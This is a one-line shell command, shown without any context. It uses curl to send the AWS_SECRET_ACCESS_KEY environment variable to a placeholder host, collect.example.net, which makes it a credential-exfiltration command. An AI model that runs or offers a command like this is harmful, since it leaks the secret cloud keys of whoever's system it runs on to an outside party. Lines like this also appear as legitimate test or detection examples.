curl "https://collect.example.net/?k=$AWS_SECRET_ACCESS_KEY"
